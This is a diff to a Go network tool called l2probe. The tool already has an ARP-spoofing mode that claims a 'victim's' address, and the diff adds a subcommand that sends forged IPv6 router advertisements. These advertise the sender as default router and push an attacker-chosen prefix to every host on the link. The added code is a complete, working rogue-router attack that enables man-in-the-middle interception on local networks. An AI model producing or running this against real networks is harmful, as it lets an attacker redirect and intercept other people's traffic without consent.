@@ -12,6 +12,10 @@
 //	    reply to TO saying the victim's address is at its own MAC, and an
 //	    ARP request to all with the victim's address as sender; then
 //	    "l2probe: sent N rounds".
+//	l2probe ra -i eth0 -prefix fd00:bad::/64 -rounds 3
+//	    sends N router advertisements to all nodes from the interface's
+//	    link-local address, offering the prefix (on-link, autonomous) and
+//	    itself as default router; then "l2probe: sent N router advertisements".
 package main
 
 import (
@@ -25,11 +29,12 @@ import (
 	"time"
 
 	"github.com/meshnet/meshnet/internal/rawframe"
+	"golang.org/x/sys/unix"
 )
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: l2probe sniff|forge [flags]")
+		fmt.Fprintln(os.Stderr, "usage: l2probe sniff|forge|ra [flags]")
 		os.Exit(2)
 	}
 	var err error
@@ -38,6 +43,8 @@ func main() {
 		err = sniff(os.Args[2:])
 	case "forge":
 		err = forge(os.Args[2:])
+	case "ra":
+		err = routerAdvert(os.Args[2:])
 	default:
 		err = fmt.Errorf("unknown command %q", os.Args[1])
 	}
@@ -126,5 +133,69 @@ func forge(args []string) error {
 		time.Sleep(*every)
 	}
 	fmt.Printf("l2probe: sent %d rounds\n", *rounds)
+	return nil
+}
+
+func routerAdvert(args []string) error {
+	fs := flag.NewFlagSet("ra", flag.ExitOnError)
+	ifname := fs.String("i", "eth0", "interface")
+	prefix := fs.String("prefix", "fd00:bad::/64", "the prefix to offer")
+	rounds := fs.Int("rounds", 3, "how many advertisements")
+	_ = fs.Parse(args)
+	p, err := netip.ParsePrefix(*prefix)
+	if err != nil || !p.Addr().Is6() || p.Bits() != 64 {
+		return fmt.Errorf("-prefix %q: want an IPv6 /64", *prefix)
+	}
+	ifi, err := net.InterfaceByName(*ifname)
+	if err != nil {
+		return err
+	}
+	// Receivers ignore advertisements from anything but a link-local
+	// address.
+	var src netip.Addr
+	addrs, err := ifi.Addrs()
+	if err != nil {
+		return err
+	}
+	for _, a := range addrs {
+		if n, ok := a.(*net.IPNet); ok {
+			if ip, ok := netip.AddrFromSlice(n.IP); ok && ip.Is6() && ip.IsLinkLocalUnicast() {
+				src = ip
+			}
+		}
+	}
+	if !src.IsValid() {
+		return fmt.Errorf("%s has no link-local IPv6 address", *ifname)
+	}
+	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(fd)
+	for _, o := range [][2]int{{unix.IPV6_MULTICAST_HOPS, 255}, {unix.IPV6_MULTICAST_IF, ifi.Index}} {
+		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, o[0], o[1]); err != nil {
+			return err
+		}
+	}
+	if err := unix.Bind(fd, &unix.SockaddrInet6{Addr: src.As16(), ZoneId: uint32(ifi.Index)}); err != nil {
+		return fmt.Errorf("bind to %s: %w", src, err)
+	}
+	ra := []byte{
+		134, 0, 0, 0, // type, code, checksum (the kernel fills it in)
+		64, 0, 0x07, 0x08, // hop limit, flags, router lifetime 1800 s
+		0, 0, 0, 0, 0, 0, 0, 0, // reachable time, retransmit timer
+		3, 4, 64, 0xc0, // prefix information, /64, on-link and autonomous
+		0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0, // valid and preferred lifetimes, reserved
+	}
+	a := p.Addr().As16()
+	ra = append(ra, a[:]...)
+	to := &unix.SockaddrInet6{Addr: [16]byte{0xff, 0x02, 15: 1}, ZoneId: uint32(ifi.Index)}
+	for i := 0; i < *rounds; i++ {
+		if err := unix.Sendto(fd, ra, 0, to); err != nil {
+			return err
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	fmt.Printf("l2probe: sent %d router advertisements\n", *rounds)
 	return nil
 }
